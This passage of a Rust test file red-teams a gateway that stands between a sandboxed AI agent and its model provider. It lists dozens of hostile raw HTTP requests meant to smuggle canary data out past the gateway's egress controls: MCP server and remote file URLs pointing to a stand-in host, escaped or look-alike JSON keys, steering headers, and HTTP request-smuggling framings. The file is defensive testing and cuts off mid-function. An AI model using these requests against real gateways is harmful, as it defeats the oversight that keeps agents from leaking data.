//! Red team of the model channel (issue 35, DESIGN §5 row 24), from inside a real sandbox: a
//! hostile program the repository ships (the `raw_model_http` example) writes raw HTTP requests to
//! the relay on the sandbox's loopback, which pipes them to the gateway on the host, in front of the
//! scripted upstream that records every request it receives. Each way out carries a canary of its
//! own; a refused one must leave no trace upstream (body, headers, path or query), be a
//! `gateway_refusal` event in the headless events and the run record, and reach the agent as a 400
//! naming the field. Requests that must pass (the real clients' captured requests, documented
//! fields) reach the upstream, and what it received is checked.

use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddr};

use serde_json::Value;
use stet_protocol::event::{EventKind, ItemKind};
use stet_scripted_model::{ModelRequest, ScriptedModel};

use super::agent_voice::{PROGRAM, example, project_shipping};
use super::gateway::KEY_ENV;
use super::headless::{Finished, Project, events_file, run};
use super::support::{git, serving_runtime};

/// The model `[model] allow` lets the attacks name.
const MODEL: &str = "redteam-model";

/// Where the attacks lie in the shipped repository.
const ATTACKS: &str = "attacks";

/// What must become of one request.
enum Expect {
    /// Refused by the request policy: a 400 for each request on the connection, and one refusal
    /// event each, whose field contains the first text and whose rule is the second.
    Policy(Vec<(&'static str, &'static str)>),
    /// Refused before the policy with this status, and no refusal event.
    Status(u16),
    /// Whatever the reply (a cut connection, a 400 of the HTTP parser), nothing reaches the
    /// upstream; when the gateway read the request after all, the policy refused it like this.
    Nothing(Option<(&'static str, &'static str)>),
    /// Reaches the upstream once; the check says what the upstream must have received.
    Reaches(fn(&ModelRequest, &str) -> Result<(), String>),
}

/// One way out: its name (the order the program sends them in), its raw request and its fate.
struct Attack {
    name: String,
    request: Vec<u8>,
    expect: Expect,
}

/// The attacks of a run, each named and carrying `{canary}.{name}.` somewhere.
struct Attacks {
    canary: String,
    list: Vec<Attack>,
}

impl Attacks {
    fn mark(&self, name: &str) -> String {
        format!("{}.{name}.", self.canary)
    }

    /// Adds a raw request; `{C}` in it is replaced by the attack's canary.
    fn raw(&mut self, name: &str, request: &str, expect: Expect) {
        let name = format!("{:03}-{name}", self.list.len());
        let request = request.replace("{C}", &self.mark(&name)).into_bytes();
        self.list.push(Attack {
            name,
            request,
            expect,
        });
    }

    /// Adds `POST path` with `headers` (a `Content-Type: application/json` and a
    /// `Content-Length` unless given) and `body`, `{C}` replaced in both.
    fn post(&mut self, name: &str, path: &str, headers: &[&str], body: &[u8], expect: Expect) {
        self.post_encoded(name, path, headers, body, <[u8]>::to_vec, expect);
    }

    /// [`Attacks::post`] with the body, its canary in place, passed through `encode` (chunked,
    /// gzip) before it is sent.
    fn post_encoded(
        &mut self,
        name: &str,
        path: &str,
        headers: &[&str],
        body: &[u8],
        encode: fn(&[u8]) -> Vec<u8>,
        expect: Expect,
    ) {
        let name = format!("{:03}-{name}", self.list.len());
        let mark = self.mark(&name);
        let mut head = format!(
            "POST {} HTTP/1.1\r\nHost: 127.0.0.1:4141\r\nConnection: close\r\nAuthorization: Bearer agent-placeholder\r\n",
            path.replace("{C}", &mark)
        );
        let named = |wanted: &str| {
            headers
                .iter()
                .any(|header| header.to_ascii_lowercase().starts_with(wanted))
        };
        if !named("content-type:") {
            head.push_str("Content-Type: application/json\r\n");
        }
        let body = encode(
            String::from_utf8_lossy(body)
                .replace("{C}", &mark)
                .as_bytes(),
        );
        if !named("content-length:") && !named("transfer-encoding:") {
            head.push_str(&format!("Content-Length: {}\r\n", body.len()));
        }
        for header in headers {
            head.push_str(&header.replace("{C}", &mark));
            head.push_str("\r\n");
        }
        head.push_str("\r\n");
        let mut request = head.into_bytes();
        request.extend_from_slice(&body);
        self.list.push(Attack {
            name,
            request,
            expect,
        });
    }

    /// A Chat Completions request: the allowed model, one user message holding the canary, then
    /// `extra` (`,"key":value…`).
    fn chat(&mut self, name: &str, extra: &str, expect: Expect) {
        let body = format!(
            "{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":\"{{C}}\"}}]{extra}}}"
        );
        self.post(name, "/v1/chat/completions", &[], body.as_bytes(), expect);
    }

    /// A Responses request: the allowed model, the canary as input, then `extra`.
    fn responses(&mut self, name: &str, extra: &str, expect: Expect) {
        let body = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\"{extra}}}");
        self.post(name, "/v1/responses", &[], body.as_bytes(), expect);
    }
}

/// The request policy refuses `field` by `rule`.
fn refused(field: &'static str, rule: &'static str) -> Expect {
    Expect::Policy(vec![(field, rule)])
}

/// A remote MCP server whose URL and headers carry the canary out.
const MCP: &str = r#"{"type":"mcp","server_label":"c","server_url":"https://x.invalid/c?d={C}","headers":{"X-Data":"{C}"},"require_approval":"never"}"#;

/// The ways out the issue lists: every provider-side tool on each served API, in mixed case, with
/// duplicated keys and nested in `tool_choice`, `include` and namespaces; the plug-in fields; a
/// disallowed model, suffix and prefix; an unknown top-level field; gzip, chunked and oversized
/// bodies.
fn listed(attacks: &mut Attacks) {
    for tool in [
        MCP,
        r#"{"type":"web_search"}"#,
        r#"{"type":"web_search_preview","search_context_size":"high"}"#,
        r#"{"type":"web_search_2025_08_26"}"#,
        r#"{"type":"code_interpreter","container":{"type":"auto"}}"#,
        r#"{"type":"file_search","vector_store_ids":["vs_{C}"]}"#,
        r#"{"type":"image_generation"}"#,
        r#"{"type":"computer_use_preview","display_width":1024,"display_height":768,"environment":"browser"}"#,
        r#"{"type":"connector","connector_id":"connector_gmail"}"#,
        r#"{"type":"Web_Search"}"#,
        r#"{"type":"MCP","server_url":"https://x.invalid/{C}"}"#,
        r#"{"type":"shell"}"#,
    ] {
        attacks.responses(
            "responses-tool",
            &format!(",\"tools\":[{tool}]"),
            refused("tools[0].type", "provider_tool"),
        );
        attacks.chat(
            "chat-tool",
            &format!(",\"tools\":[{tool}]"),
            refused("tools[0].type", "provider_tool"),
        );
    }
    // A function tool first, the MCP server in a second `tools` key that a last-wins parser keeps.
    attacks.responses(
        "duplicated-tools",
        &format!(
            ",\"tools\":[{{\"type\":\"function\",\"name\":\"f\",\"parameters\":{{}}}}],\"tools\":[{MCP}]"
        ),
        refused("tools", "duplicate_key"),
    );
    attacks.responses(
        "duplicated-type",
        r#","tools":[{"type":"function","name":"f","parameters":{},"type":"mcp","server_url":"https://x.invalid/{C}"}]"#,
        refused("tools[0].type", "duplicate_key"),
    );
    attacks.responses(
        "tool-choice-mcp",
        r#","tool_choice":{"type":"mcp","server_label":"{C}"}"#,
        refused("tool_choice.type", "provider_tool"),
    );
    attacks.responses(
        "tool-choice-web-search",
        r#","tool_choice":{"type":"web_search_preview"}"#,
        refused("tool_choice.type", "provider_tool"),
    );
    attacks.chat(
        "chat-tool-choice-web-search",
        r#","tool_choice":{"type":"web_search"}"#,
        refused("tool_choice.type", "provider_tool"),
    );
    attacks.responses(
        "allowed-tools-nesting-mcp",
        &format!(
            ",\"tool_choice\":{{\"type\":\"allowed_tools\",\"mode\":\"auto\",\"tools\":[{MCP}]}}"
        ),
        refused("tool_choice.tools[0].type", "provider_tool"),
    );
    attacks.responses(
        "namespace-nesting-mcp",
        &format!(",\"tools\":[{{\"type\":\"namespace\",\"name\":\"n\",\"tools\":[{MCP}]}}]"),
        refused("tools[0].tools[0].type", "provider_tool"),
    );
    for entry in [
        "web_search_call.action.sources",
        "code_interpreter_call.outputs",
        "file_search_call.results",
        "computer_call_output.output.image_url",
    ] {
        attacks.responses(
            "include",
            &format!(",\"include\":[\"{entry}\"]"),
            refused("include[0]", "provider_tool"),
        );
    }
    attacks.chat(
        "web-search-options",
        r#","web_search_options":{"search_context_size":"high","user_location":{"type":"approximate","approximate":{"city":"{C}"}}}"#,
        refused("web_search_options", "provider_tool"),
    );
    attacks.chat(
        "plugins-web",
        r#","plugins":[{"id":"web","search_prompt":"{C}"}]"#,
        refused("plugins", "plugin"),
    );
    attacks.responses(
        "responses-plugins",
        r#","plugins":[{"id":"file-parser"}]"#,
        refused("plugins", "plugin"),
    );
    for (model, rule) in [
        ("redteam-model:online", "routing_suffix"),
        ("redteam-model:nitro", "routing_suffix"),
        ("REDTEAM-MODEL:ONLINE", "routing_suffix"),
        ("gpt-4o", "model_not_allowed"),
        ("openrouter/redteam-model", "provider_prefix"),
        ("redteam-model ", "model_not_allowed"),
    ] {
        let body = format!(
            "{{\"model\":\"{model}\",\"messages\":[{{\"role\":\"user\",\"content\":\"{{C}}\"}}]}}"
        );
        attacks.post(
            "chat-model",
            "/v1/chat/completions",
            &[],
            body.as_bytes(),
            refused("model", rule),
        );
        let body = format!("{{\"model\":\"{model}\",\"input\":\"{{C}}\"}}");
        attacks.post(
            "responses-model",
            "/v1/responses",
            &[],
            body.as_bytes(),
            refused("model", rule),
        );
    }
    for field in [
        "transforms",
        "provider",
        "models",
        "route",
        "fallbacks",
        "api_base",
        "extra_body",
        "mock_response",
    ] {
        attacks.chat(
            "unknown-field",
            &format!(",\"{field}\":\"{{C}}\""),
            refused(field, "undocumented_field"),
        );
    }
    // A gzip body whose JSON holds an MCP server: refused by its encoding, before any decoding.
    let inner = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}");
    attacks.post_encoded(
        "gzip",
        "/v1/responses",
        &["Content-Encoding: gzip"],
        inner.as_bytes(),
        gzip,
        Expect::Status(415),
    );
    // Chunked: the body is read whole, then checked like any other.
    attacks.post_encoded(
        "chunked-mcp",
        "/v1/responses",
        &["Transfer-Encoding: chunked"],
        inner.as_bytes(),
        chunked,
        refused("tools[0].type", "provider_tool"),
    );
    let plain = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\"}}");
    attacks.post_encoded(
        "chunked-plain",
        "/v1/responses",
        &["Transfer-Encoding: chunked"],
        plain.as_bytes(),
        chunked,
        Expect::Reaches(|seen, mark| {
            (seen.body["input"] == mark)
                .then_some(())
                .ok_or_else(|| format!("{:?}", seen.body))
        }),
    );
}

/// The ways out an attacker tries who has not read the tests.
fn beyond(attacks: &mut Attacks) {
    // Keys and values spelt otherwise: JSON escapes, look-alike letters, full-width letters.
    attacks.responses(
        "escaped-key",
        &format!(",\"t\\u006fols\":[{MCP}]"),
        refused("tools[0].type", "provider_tool"),
    );
    attacks.responses(
        "escaped-key-duplicate",
        &format!(",\"tools\":[],\"t\\u006fols\":[{MCP}]"),
        refused("tools", "duplicate_key"),
    );
    attacks.responses(
        "escaped-type",
        r#","tools":[{"type":"\u006dcp","server_url":"https://x.invalid/{C}"}]"#,
        refused("tools[0].type", "provider_tool"),
    );
    attacks.responses(
        "cyrillic-key",
        &format!(",\"t\u{43e}\u{43e}ls\":[{MCP}]"),
        refused("t", "undocumented_field"),
    );
    attacks.responses(
        "fullwidth-type",
        r#","tools":[{"type":"ｍｃｐ","server_url":"https://x.invalid/{C}"}]"#,
        refused("tools[0].type", "provider_tool"),
    );
    attacks.responses(
        "uppercase-key",
        &format!(",\"Tools\":[{MCP}]"),
        refused("Tools", "undocumented_field"),
    );
    attacks.chat(
        "nested-duplicate",
        r#","metadata":{"a":"{C}","a":"b"}"#,
        refused("metadata.a", "duplicate_key"),
    );
    // A switch spelt as a string: a lax upstream streams, the meter would not ask for usage.
    attacks.chat(
        "stream-as-string",
        r#","stream":"true""#,
        refused("stream", "undocumented_field"),
    );
    // Another API's fields, which a proxy translating between them would read.
    attacks.chat(
        "chat-with-input",
        r#","input":[{"type":"mcp_call","server_label":"{C}"}]"#,
        refused("input", "undocumented_field"),
    );
    attacks.chat(
        "chat-with-include",
        r#","include":["reasoning.encrypted_content"],"user":"{C}""#,
        refused("include", "undocumented_field"),
    );
    attacks.responses(
        "responses-with-messages",
        r#","messages":[{"role":"user","content":"{C}"}]"#,
        refused("messages", "undocumented_field"),
    );
    // Items and parts by which the provider fetches or acts.
    for (item, field, rule) in [
        (
            r#"{"type":"mcp_call","server_label":"c","name":"n","arguments":"{C}"}"#,
            "input[0].type",
            "provider_tool",
        ),
        (
            r#"{"type":"mcp_approval_response","approval_request_id":"{C}","approve":true}"#,
            "input[0].type",
            "provider_tool",
        ),
        (
            r#"{"type":"web_search_call","id":"ws_{C}","status":"completed"}"#,
            "input[0].type",
            "provider_tool",
        ),
        (
            r#"{"type":"item_reference","id":"msg_{C}"}"#,
            "input[0].type",
            "undocumented_field",
        ),
        (
            r#"{"role":"user","content":[{"type":"input_image","image_url":"https://x.invalid/{C}.png"}]}"#,
            "input[0].content[0].image_url",
            "remote_url",
        ),
        (
            r#"{"role":"user","content":[{"type":"input_file","file_url":"https://x.invalid/{C}.pdf"}]}"#,
            "input[0].content[0].file_url",
            "remote_url",
        ),
        (
            r#"{"role":"user","content":[{"type":"input_file","filename":"a.pdf","file_data":"https://x.invalid/{C}.pdf"}]}"#,
            "input[0].content[0].file_data",
            "remote_url",
        ),
        (
            r#"{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"http://x.invalid/{C}"}]}"#,
            "input[0].output[0].image_url",
            "remote_url",
        ),
    ] {
        let expect = refused(field, rule);
        let body = format!("{{\"model\":\"{MODEL}\",\"input\":[{item}]}}");
        attacks.post(
            "responses-item",
            "/v1/responses",
            &[],
            body.as_bytes(),
            expect,
        );
    }
    for (part, field) in [
        (
            r#"{"type":"image_url","image_url":{"url":"https://x.invalid/{C}.png"}}"#,
            "messages[0].content[0].image_url.url",
        ),
        (
            r#"{"type":"image_url","image_url":"HTTPS://x.invalid/{C}.png"}"#,
            "messages[0].content[0].image_url",
        ),
        (
            r#"{"type":"file","file":{"filename":"a.pdf","file_data":"https://x.invalid/{C}.pdf"}}"#,
            "messages[0].content[0].file.file_data",
        ),
        (
            r#"{"type":"file","file":{"file_id":"gs://bucket/{C}.pdf"}}"#,
            "messages[0].content[0].file.file_id",
        ),
        (
            r#"{"type":"file","file":{"file_url":"https://x.invalid/{C}.pdf"}}"#,
            "messages[0].content[0].file.file_url",
        ),
    ] {
        let body = format!(
            "{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":[{part}]}}]}}"
        );
        let expect = refused(field, "remote_url");
        attacks.post(
            "chat-part",
            "/v1/chat/completions",
            &[],
            body.as_bytes(),
            expect,
        );
    }
    // A stored prompt: a configuration of its own (tools included) and variables the provider
    // fetches.
    attacks.responses(
        "prompt-template",
        r#","prompt":{"id":"pmpt_1","variables":{"doc":{"type":"input_file","file_url":"https://x.invalid/{C}.pdf"}}}"#,
        refused("prompt", "provider_tool"),
    );
    // A function tool carrying a remote server's keys: undocumented on a client tool.
    attacks.responses(
        "function-with-server-url",
        r#","tools":[{"type":"function","name":"f","parameters":{},"server_url":"https://x.invalid/{C}"}]"#,
        refused("tools[0].server_url", "undocumented_field"),
    );
    attacks.chat(
        "chat-function-with-nested-tools",
        r#","tools":[{"type":"function","function":{"name":"f"},"tools":[{"type":"function","function":{"name":"{C}"}}]}]"#,
        refused("tools[0].tools", "undocumented_field"),
    );
    // No model at all, or null: the upstream (a proxy's default) would pick one.
    attacks.post(
        "model-null",
        "/v1/chat/completions",
        &[],
        br#"{"model":null,"messages":[{"role":"user","content":"{C}"}]}"#,
        refused("model", "model_not_allowed"),
    );
    attacks.post(
        "model-missing",
        "/v1/chat/completions",
        &[],
        br#"{"messages":[{"role":"user","content":"{C}"}]}"#,
        refused("model", "model_not_allowed"),
    );
    // Around the body: a query string LiteLLM reads `model` from.
    attacks.post(
        "query-model",
        "/v1/chat/completions?model=o1-pro&tag={C}",
        &[],
        format!(
            "{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":\"hi\"}}]}}"
        )
        .as_bytes(),
        refused("(query string)", "undocumented_field"),
    );
    attacks.post(
        "query-responses",
        "/v1/responses?stream=true&{C}",
        &[],
        format!("{{\"model\":\"{MODEL}\",\"input\":\"hi\"}}").as_bytes(),
        refused("(query string)", "undocumented_field"),
    );
    // A form body: a proxy that reads forms would find `model` and `api_base` in the JSON's
    // strings. It may pass, but only ever as JSON.
    attacks.post(
        "form-content-type",
        "/v1/chat/completions",
        &["Content-Type: application/x-www-form-urlencoded"],
        br#"{"model":"redteam-model","messages":[{"role":"user","content":"{C}&model=o1-pro&api_base=https%3A%2F%2Fx.invalid&"}]}"#,
        Expect::Reaches(|seen, _| {
            let types: Vec<&str> = seen
                .headers
                .iter()
                .filter(|(name, _)| name == "content-type")
                .map(|(_, value)| value.as_str())
                .collect();
            (types == ["application/json"])
                .then_some(())
                .ok_or_else(|| format!("the upstream was told the body is {types:?}"))
        }),
    );
    // Headers by which a client steers a proxy: none reaches the upstream.
    attacks.post(
        "steering-headers",
        "/v1/chat/completions",
        &[
            "X-LiteLLM-Model: o1-pro-{C}",
            "api-base: https://x.invalid/{C}",
            "OpenAI-Organization: org-{C}",
            "anthropic-beta: mcp-client-2025-04-04,{C}",
            "x-openrouter-plugins: web-{C}",
        ],
        format!("{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":\"hi\"}}],\"user\":\"{{C}}\"}}")
            .as_bytes(),
        Expect::Reaches(|seen, mark| {
            let header = seen.headers.iter().find(|(_, value)| value.contains(mark));
            match header {
                None => Ok(()),
                Some(header) => Err(format!("{header:?} reached the upstream")),
            }
        }),
    );
    // Documented fields that pass; what the provider does with them is the residual
    // docs/security.md names.
    attacks.responses(
        "documented-state",
        r#","store":true,"background":false,"previous_response_id":null,"metadata":{"k":"v"},"user":"u","stream_options":{"include_obfuscation":false},"instructions":"be brief""#,
        Expect::Reaches(|seen, _| {
            (seen.body["background"] == false && seen.body["store"] == true)
                .then_some(())
                .ok_or_else(|| format!("{:?}", seen.body))
        }),
    );
    // State stored upstream, or work after the reply, which the meter cannot see: refused by name.
    attacks.responses(
        "stored-state",
        r#","store":true,"previous_response_id":"resp_{C}""#,
        refused("previous_response_id", "unseen_work"),
    );
    attacks.responses(
        "background-work",
        r#","background":true,"metadata":{"k":"{C}"}"#,
        refused("background", "unseen_work"),
    );
    attacks.responses(
        "instructions-as-items",
        r#","instructions":[{"role":"system","content":[{"type":"input_image","image_url":"https://x.invalid/{C}"}]}]"#,
        refused("instructions[0].content[0].image_url", "remote_url"),
    );
    // Bodies whose meaning could change on re-serialization: the upstream gets one reading.
    attacks.chat(
        "numbers-and-nul",
        r#","seed":123456789012345678901234567890,"temperature":1.0e0,"top_p":-0,"metadata":{"k":"a\u0000b"}"#,
        Expect::Reaches(|seen, _| {
            let reparsed: Value = serde_json::from_slice(&seen.raw).map_err(|err| err.to_string())?;
            (reparsed["metadata"]["k"] == "a\u{0}b" && reparsed["temperature"] == 1.0)
                .then_some(())
                .ok_or_else(|| String::from_utf8_lossy(&seen.raw).into_owned())
        }),
    );
    attacks.chat(
        "lone-surrogate",
        r#","user":"\ud800{C}""#,
        refused("(body)", "not_json"),
    );
    attacks.chat(
        "two-documents",
        r#"}{"tools":[{"type":"web_search"}]"#,
        refused("(body)", "not_json"),
    );
    let deep = format!(",\"metadata\":{}{}", "[".repeat(300), "]".repeat(300));
    attacks.chat("deeply-nested", &deep, refused("(body)", "not_json"));
    // Encodings: every one but identity is refused, stacked or alone; a second header naming gzip
    // behind an `identity` leaves the compressed bytes to the policy, which reads no JSON there.
    let inner = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}");
    for encoding in [
        "deflate",
        "br",
        "zstd",
        "gzip, identity",
        "identity, gzip",
        "x-gzip",
        "GZIP",
    ] {
        attacks.post_encoded(
            "content-encoding",
            "/v1/responses",
            &[&format!("Content-Encoding: {encoding}")],
            inner.as_bytes(),
            gzip,
            Expect::Status(415),
        );
    }
    attacks.post_encoded(
        "content-encoding-twice",
        "/v1/responses",
        &["Content-Encoding: identity", "Content-Encoding: gzip"],
        inner.as_bytes(),
        gzip,
        refused("(body)", "not_json"),
    );
    // HTTP framing: both lengths, an encoding under the chunking, 100-continue, HTTP/1.0, an
    // upgrade to h2c, HTTP/2 with prior knowledge, pipelining.
    let hidden = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}");
    attacks.post_encoded(
        "length-and-chunked",
        "/v1/responses",
        &["Content-Length: 4", "Transfer-Encoding: chunked"],
        hidden.as_bytes(),
        chunked,
        Expect::Nothing(Some(("tools[0].type", "provider_tool"))),
    );
    attacks.post_encoded(
        "gzip-transfer-coding",
        "/v1/responses",
        &["Transfer-Encoding: gzip, chunked"],
        hidden.as_bytes(),
        |body| chunked(&gzip(body)),
        Expect::Nothing(Some(("(body)", "not_json"))),
    );
    attacks.post(
        "expect-continue",
        "/v1/responses",
        &["Expect: 100-continue"],
        hidden.as_bytes(),
        refused("tools[0].type", "provider_tool"),
    );
    attacks.raw(
        "http-1.0",
        &format!(
            "POST /v1/responses HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: {LEN_PLACEHOLDER}\r\n\r\n{hidden}"
        ),
        refused("tools[0].type", "provider_tool"),
    );
    attacks.post(
        "upgrade-h2c",
        "/v1/responses",
        &[
            "Connection: Upgrade, HTTP2-Settings",
            "Upgrade: h2c",
            "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        ],
        hidden.as_bytes(),
        refused("tools[0].type", "provider_tool"),
    );
    attacks.raw(
        "h2-prior-knowledge",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0{C}",
        Expect::Nothing(None),
    );
    let first = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}");
    let second =
        format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"plugins\":[{{\"id\":\"web\"}}]}}");
    attacks.raw(
        "pipelined",
        &format!(
            "POST /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{first}POST /v1/responses HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{second}",
            LEN_PLACEHOLDER, LEN_PLACEHOLDER
        ),
        Expect::Policy(vec![("tools[0].type", "provider_tool"), ("plugins", "plugin")]),
    );
    // Paths and methods: only the three routes, spelt exactly.
    let plain = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\"}}");
    for path in [
        "/v1/responses/../chat/completions",
        "/v1/chat%2Fcompletions",
        "//v1/responses",
        "/v1/responses/",
        "/V1/responses",
        "/v1/responses;x",
        "/v1/messages/batches",
        "/v1/completions",
        "/v1/embeddings",
        "/v1/files",
        "/v1/conversations",
        "/v1/responses/resp_1/input_items",
        "/v1/realtime/sessions",
    ] {
        attacks.post("path", path, &[], plain.as_bytes(), Expect::Status(404));
    }
    // The Messages route is served, under its own policy: a Responses body is not a Messages one.
    attacks.post(
        "messages-route",
        "/v1/messages",
        &[],
        plain.as_bytes(),
        refused("input", "undocumented_field"),
    );
    for method in ["PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"] {
        attacks.raw(
            "method",
            &format!(
                "{method} /v1/responses HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{plain}",
                LEN_PLACEHOLDER
            ),
            if method == "HEAD" {
                Expect::Nothing(None)
            } else {
                Expect::Status(404)
            },
        );
    }
    attacks.post(
        "models-by-post",
        "/v1/models",
        &[],
        plain.as_bytes(),
        Expect::Status(404),
    );
    attacks.raw(
        "models-with-body",
        &format!(
            "GET /v1/models HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{plain}",
            LEN_PLACEHOLDER
        ),
        Expect::Status(400),
    );
    // The absolute form names another host: the request still goes to the configured upstream.
    attacks.raw(
        "absolute-form",
        &format!(
            "POST http://x.invalid/v1/responses HTTP/1.1\r\nHost: x.invalid\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{plain}",
            LEN_PLACEHOLDER
        ),
        Expect::Reaches(|seen, _| {
            let host = seen.header("host").unwrap_or_default();
            (seen.path == "/v1/responses" && host.starts_with("127.0.0.1"))
                .then_some(())
                .ok_or_else(|| format!("{} host {host}", seen.path))
        }),
    );
}

/// Stands for a `Content-Length` that [`fix_lengths`] fills in once the canary is in the body.
const LEN_PLACEHOLDER: &str = "@LEN@";

/// Fills each [`LEN_PLACEHOLDER`] with the length of the body that follows its head (up to the
/// next request line, or the end).
fn fix_lengths(request: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(request).into_owned();
    if !text.contains(LEN_PLACEHOLDER) {
        return request.to_vec();
    }
    let mut out = String::new();
    let mut rest = text.as_str();
    while let Some(at) = rest.find(LEN_PLACEHOLDER) {
        let (before, after) = rest.split_at(at);
        let after = &after[LEN_PLACEHOLDER.len()..];
        let body_start = after.find("\r\n\r\n").unwrap() + 4;
        let body = &after[body_start..];
        let body_len = ["POST ", "GET ", "PUT "]
            .iter()
            .filter_map(|start| body.find(start))
            .min()
            .unwrap_or(body.len());
        out.push_str(before);
        out.push_str(&body_len.to_string());
        out.push_str(&after[..body_start + body_len]);
        rest = &after[body_start + body_len..];
    }
    out.push_str(rest);
    out.into_bytes()
}

/// The real clients' captured requests: each passes unchanged in meaning, but the default Codex
/// configuration's web search, which is refused.
fn real_clients(attacks: &mut Attacks) {
    let dir =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/model-requests");
    for name in [
        "openhands-1.16-chat-completions.json",
        "codex-0.163-responses-turn-1.json",
        "codex-0.163-responses-turn-2.json",
        "codex-0.163-responses-default-web-search.json",
    ] {
        let fixture: Value =
            serde_json::from_slice(&std::fs::read(dir.join(name)).unwrap()).unwrap();
        let mut body = fixture["body"].clone();
        // The canary rides in a field every one of these clients sends.
        let path = fixture["path"].as_str().unwrap().to_owned();
        body["prompt_cache_key"] = Value::from("{C}");
        let headers: Vec<String> = fixture["headers"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|pair| {
                let name = pair[0].as_str()?;
                let value = pair[1].as_str()?;
                (!matches!(
                    name,
                    "authorization" | "connection" | "host" | "content-length"
                ))
                .then(|| format!("{name}: {value}"))
            })
            .collect();
        let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
        let expect = if fixture["expect"] == "pass" {
            Expect::Reaches(same_meaning)
        } else {
            refused("tools[8].type", "provider_tool")
        };
        attacks.post(
            &format!("fixture-{}", name.trim_end_matches(".json")),
            &path,
            &headers,
            body.to_string().as_bytes(),
            expect,
        );
    }
}

/// The upstream received the fixture's body as sent (compared as JSON, the canary in place).
fn same_meaning(seen: &ModelRequest, mark: &str) -> Result<(), String> {
    let dir =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/model-requests");
    let wanted = std::fs::read_dir(&dir)
        .unwrap()
        .filter_map(|entry| {
            let fixture: Value =
                serde_json::from_slice(&std::fs::read(entry.ok()?.path()).ok()?).ok()?;
            let mut body = fixture["body"].clone();
            body["prompt_cache_key"] = Value::from(mark);
            Some(body)
        })
        .any(|body| body == seen.body);
    wanted
        .then_some(())
        .ok_or_else(|| "the fixture's body changed on the way".to_owned())
}

/// A gzip member holding `data` in one stored (uncompressed) deflate block.
fn gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    let length = u16::try_from(data.len()).unwrap();
    out.push(1);
    out.extend_from_slice(&length.to_le_bytes());
    out.extend_from_slice(&(!length).to_le_bytes());
    out.extend_from_slice(data);
    out.extend_from_slice(&crc32(data).to_le_bytes());
    out.extend_from_slice(&u32::try_from(data.len()).unwrap().to_le_bytes());
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for byte in data {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// `data` in chunks of 7 bytes, then the last chunk.
fn chunked(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for chunk in data.chunks(7) {
        out.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
        out.extend_from_slice(chunk);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

/// Every text of what the upstream received, to look for a canary in.
fn seen_text(request: &ModelRequest) -> String {
    format!(
        "{} {:?} {:?} {}",
        request.path,
        request.query,
        request.headers,
        String::from_utf8_lossy(&request.raw)
    )
}

/// Ships `attacks` in a repository whose agent runs the `raw_model_http` program over them, with
/// `[model]` pointing at `upstream` and `model_settings` added, and runs the dispatch headless to
/// its successful end.
fn ship_and_dispatch(
    attacks: &Attacks,
    upstream: &ScriptedModel,
    model_settings: &str,
) -> (Project, Finished) {
    let run_step = format!(
        "run = [\"/workspace/{PROGRAM}\", \"{ATTACKS}\", \"{}.zz-oversize.\"]",
        attacks.canary
    );
    let project = project_shipping(&example("raw_model_http"), &[&run_step]);
    let dir = project.repo.join(ATTACKS);
    std::fs::create_dir_all(&dir).unwrap();
    for attack in &attacks.list {
        std::fs::write(dir.join(&attack.name), fix_lengths(&attack.request)).unwrap();
    }
    git(&project.repo, &["add", ATTACKS]);
    git(&project.repo, &["commit", "--quiet", "-m", "The requests"]);
    git(&project.repo, &["push", "--quiet", "origin", "main"]);
    project.home.add_user_config(&format!(
        "\n[model]\nbase_url = \"{}\"\napi_key_env = \"{KEY_ENV}\"\n{model_settings}",
        upstream.base_url()
    ));
    let mut command = project.headless(&[]);
    command.env(KEY_ENV, format!("key-{}", uuid::Uuid::new_v4().simple()));
    let finished = run(command);
    assert_eq!(finished.code(), Some(0), "{finished:#?}");
    (project, finished)
}

#[test]
fn no_way_out_through_the_model_channel_reaches_the_upstream() {
    let runtime = serving_runtime();
    let upstream = runtime
        .block_on(ScriptedModel::serve(SocketAddr::from((
